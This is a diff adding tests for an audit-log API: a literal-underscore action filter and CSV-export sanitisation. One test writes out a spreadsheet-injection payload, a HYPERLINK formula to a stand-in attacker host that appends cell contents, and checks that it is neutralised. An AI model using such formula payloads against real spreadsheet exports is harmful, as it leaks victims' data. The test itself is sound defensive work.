@@ -1,4 +1,5 @@
 import { randomUUID } from "node:crypto";
+import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { verifyAuditChain } from "../src/server/platform/audit-queries.ts";
 import { recordAudit, systemAuditContext } from "../src/server/plugins/audit.ts";
@@ -137,6 +138,32 @@ describe("GET /api/audit", () => {
   });
 });
 
+describe("the action filter", () => {
+  it("matches an underscore literally: auth.sign_in finds sign-ins, and only them", async () => {
+    const email = `sign-in-${randomUUID().slice(0, 8)}@nowhere.example`;
+    const login = await t.app.inject({
+      method: "POST",
+      url: "/api/auth/login",
+      payload: { email, password: "wrong-password-here" },
+    });
+    expect(login.statusCode).toBe(401);
+    const res = await get(
+      `/api/audit?action=auth.sign_in&actor=${encodeURIComponent(email)}`,
+      sysadmin.headers,
+    );
+    expect(res.statusCode).toBe(200);
+    expect((res.json() as Entry[]).map((e) => [e.action, e.actorLabel])).toEqual([
+      ["auth.sign_in", email],
+    ]);
+    // The underscore is not a wildcard: "auth.sign?in" is no action prefix that exists.
+    const wildcard = await get(
+      `/api/audit?action=auth.sign%25&actor=${encodeURIComponent(email)}`,
+      sysadmin.headers,
+    );
+    expect(wildcard.json()).toEqual([]);
+  });
+});
+
 describe("GET /api/audit/export.csv", () => {
   it("exports the filtered rows with a header row, and records the export", async () => {
     const municipality = await buildMunicipality(t.db);
@@ -167,6 +194,27 @@ describe("GET /api/audit/export.csv", () => {
         details: { filter: { subjectId: area.id, limit: 100 }, rows: 1 },
       },
     ]);
+  });
+
+  it("neutralises a formula sent as a sign-in name before it reaches a spreadsheet", async () => {
+    const marker = randomUUID().slice(0, 8);
+    const hostile = `=HYPERLINK("http://evil.example/?x=${marker}"&A1,"click")`;
+    const login = await t.app.inject({
+      method: "POST",
+      url: "/api/auth/login",
+      payload: { email: hostile, password: "wrong-password-here" },
+    });
+    expect(login.statusCode).toBe(401);
+    const res = await get(
+      `/api/audit/export.csv?action=auth.sign_in&actor=${marker}`,
+      sysadmin.headers,
+    );
+    expect(res.statusCode).toBe(200);
+    const rows = parse(res.body.replace(/^\uFEFF/, "")) as string[][];
+    expect(rows).toHaveLength(2);
+    const actor = rows[1]![rows[0]!.indexOf("actor")]!;
+    expect(actor).toBe(`'${hostile.toLowerCase()}`);
+    expect(rows.flat().some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false);
   });
 
   it("refuses another municipality's log", async () => {
